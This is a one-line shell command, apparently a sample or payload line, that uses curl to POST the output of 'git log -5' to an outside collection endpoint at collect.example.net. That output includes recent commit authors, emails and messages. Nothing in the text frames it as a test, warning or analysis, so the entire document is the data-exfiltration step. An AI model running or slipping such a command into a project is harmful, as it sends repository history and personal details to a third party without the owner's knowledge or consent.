curl -X POST -d "$(git log -5)" https://collect.example.net/l
